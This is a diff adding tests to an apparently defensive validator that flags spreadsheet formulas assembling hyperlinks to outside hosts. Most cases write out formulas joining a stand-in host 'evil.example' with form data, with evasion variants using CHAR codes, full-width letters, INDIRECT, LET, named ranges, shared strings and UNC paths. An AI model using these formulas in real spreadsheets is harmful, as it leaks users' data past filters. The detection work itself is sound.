@@ -3,7 +3,7 @@ import { outsideTarget } from '@shared/forms/opc/outside-host';
 import { verifyForm } from '@shared/forms/form-template';
 import { nodeCodec } from '../../../electron/storage/node-codec';
 import { aDocx, documentXml, MAIN_TYPE, paragraph, relationshipsXml, ROOT, run, storyPart } from '../../builders/docx';
-import { anXlsx, row, WORKBOOK_TYPE, type XlsxParts } from '../../builders/xlsx';
+import { anXlsx, formulaCell, row, textCell, WORKBOOK_TYPE, type XlsxParts } from '../../builders/xlsx';
 
 /** What a form says that is refused when it is written as everybody does, written as nobody does: a program reads both alike. */
 
@@ -100,6 +100,87 @@ describe('a formula that asks somebody outside is told', () => {
     'INDIRECT("[台帳.xlsx]表!A1")',
   ])('%s isn’t', (formula) => {
     expect(excel(cell(`<f>${formula}</f>`))).toBe('ok');
+  });
+});
+
+describe('a link that is put together and may lead outside is told, wherever its pieces lie', () => {
+  const ADDRESS = textCell('Z1', 'https://evil.example/?');
+  const link = (formula: string, more = '', parts: XlsxParts = {}): string =>
+    excel({ ...parts, sheets: [{ rows: row(1, formulaCell('A1', formula, 'x') + more) }, ...(parts.sheets ?? [])] });
+
+  test.each([
+    ['the address in a cell', 'HYPERLINK(Z1&amp;B1)', ADDRESS],
+    ['… behind others', 'HYPERLINK(CONCATENATE(Z1,B1),"市")', ADDRESS],
+    ['… of a range', '_xlfn.HYPERLINK(_xlfn.TEXTJOIN("",TRUE,B1:Z1))', ADDRESS],
+    ['… of a whole row', 'HYPERLINK(_xlfn.CONCAT($1:$1))', ADDRESS],
+    ['the whole in a cell that puts it together', 'HYPERLINK(C1)', formulaCell('C1', 'Z1&amp;B1', 'x') + ADDRESS],
+    ['… two steps away', 'HYPERLINK(C1)', formulaCell('C1', 'D1', 'x') + formulaCell('D1', 'Z1&amp;B1', 'x') + ADDRESS],
+    ['… in two pieces', 'HYPERLINK(Y1&amp;Z1&amp;B1)', textCell('Y1', 'https:') + textCell('Z1', '//evil.example/?')],
+    ['… in wide letters', 'HYPERLINK(ASC(Z1)&amp;B1)', textCell('Z1', 'ｈｔｔｐ：／／evil.example')],
+    ['… of signs by number', 'HYPERLINK("http"&amp;CHAR(58)&amp;CHAR(47)&amp;CHAR(47)&amp;"x.example?"&amp;B1)', ''],
+    ['… of cells that it doesn’t name', 'HYPERLINK(INDIRECT("Z"&amp;1)&amp;B1)', ADDRESS],
+    ['… of another workbook', 'HYPERLINK([1]表!A1&amp;B1)', ''],
+    ['a server', 'HYPERLINK(Z1&amp;B1)', textCell('Z1', '\\\\SV01\\a')],
+    ['as a text of its own', '<![CDATA[HYPERLINK(Z1&B1)]]>', ADDRESS],
+    ['in references', '&#72;YPERLINK(Z1&amp;B1)', ADDRESS],
+    ['handed on', '_xlfn.MAP(Z1&amp;B1,_xleta.HYPERLINK)', ADDRESS],
+    ['by a word of a function', '_xlfn.LET(_xlpm.a,Z1&amp;B1,HYPERLINK(_xlpm.a))', ADDRESS],
+    ['in a circle', 'HYPERLINK(C1)', formulaCell('C1', 'D1', 'x') + formulaCell('D1', 'C1', 'x')],
+  ])('%s', (_, formula, more) => {
+    expect(link(formula, more)).toBe('form/reaches-out');
+  });
+
+  test('by a name, on another sheet, and in a copy of a formula', () => {
+    const names = { 先: '様式2!$A$1&amp;様式1!$B$1', 市: '&quot;https://evil.example/?&quot;' };
+    const sheets = [{ rows: row(1, textCell('A1', 'https://evil.example/?')) }];
+    expect(link('HYPERLINK(先)', '', { names, sheets })).toBe('form/reaches-out');
+    expect(link('HYPERLINK(市&amp;B1)', '', { names })).toBe('form/reaches-out');
+    expect(link('様式2!A1', '', { names: { 先: 'HYPERLINK(様式2!$A$1&amp;様式1!$B$1)' }, sheets })).toBe(
+      'form/reaches-out',
+    );
+    const copies =
+      '<c r="A1"><f t="shared" ref="A1:A2" si="0">HYPERLINK(C1&amp;B1)</f></c></row><row r="2"><c r="A2"><f t="shared" si="0"/></c>';
+    expect(excel({ sheets: [{ rows: `<row r="1">${copies}${textCell('C2', 'https://evil.example/?')}</row>` }] })).toBe(
+      'form/reaches-out',
+    );
+    const array = '<c r="C1" t="str"><f t="array" ref="C1:D1">Z1&amp;B1</f><v>x</v></c><c r="D1" t="str"><v>x</v></c>';
+    expect(link('HYPERLINK(D1)', array + ADDRESS)).toBe('form/reaches-out');
+  });
+
+  test('in shared strings, furigana too', () => {
+    const strings = [
+      '<t>市</t><rPh sb="0" eb="1"><t>https://evil.example/?</t></rPh>',
+      '<r><t>https:</t></r><r><t>//x</t></r>',
+    ];
+    const shared = (index: number): string => `<c r="Z1" t="s"><v>${index}</v></c>`;
+    expect(link('HYPERLINK(PHONETIC(Z1)&amp;B1)', shared(0), { strings })).toBe('form/reaches-out');
+    expect(link('HYPERLINK(Z1&amp;B1)', shared(1), { strings })).toBe('form/reaches-out');
+  });
+
+  test.each([
+    ['an address that lies in a cell as a whole', 'HYPERLINK(Z1,"市のページ")', ADDRESS],
+    ['… two steps away', 'HYPERLINK(C1)', formulaCell('C1', 'Z1', 'x') + ADDRESS],
+    ['what somebody types in', 'IF(B1="","",HYPERLINK(B1,"開く"))', ''],
+    ['another place of the workbook', `HYPERLINK("#'"&amp;B1&amp;"'!A1")`, ADDRESS],
+    ['a place of it by a name of a sheet', 'HYPERLINK(C1&amp;"!A1")', textCell('C1', '様式2')],
+    ['a formula beside a link', 'Z1&amp;B1&amp;HYPERLINK("https://www.city.example.jp/")', ADDRESS],
+    ['a formula that is only called so', 'MYHYPERLINK(Z1&amp;B1)&amp;"HYPERLINK"', ADDRESS],
+  ])('%s isn’t', (_, formula, more) => {
+    expect(link(formula, more)).toBe('ok');
+  });
+
+  test('by a name for an address as a whole it isn’t, either', () => {
+    expect(link('HYPERLINK(市)', '', { names: { 市: '&quot;https://www.city.example.jp/&quot;' } })).toBe('ok');
+    expect(link('HYPERLINK(市)', ADDRESS, { names: { 市: '様式1!$Z$1' } })).toBe('ok');
+  });
+
+  test('thousands of links are followed as quickly as any other formula', () => {
+    const rows = Array.from({ length: 3_000 }, (_, i) =>
+      row(i + 1, formulaCell(`A${i + 1}`, `HYPERLINK(_xlfn.CONCAT(B1:B${i + 1}))`, 'x') + textCell(`B${i + 1}`, '市')),
+    ).join('');
+    const before = performance.now();
+    excel({ sheets: [{ rows }] });
+    expect(performance.now() - before).toBeLessThan(5_000);
   });
 });
 
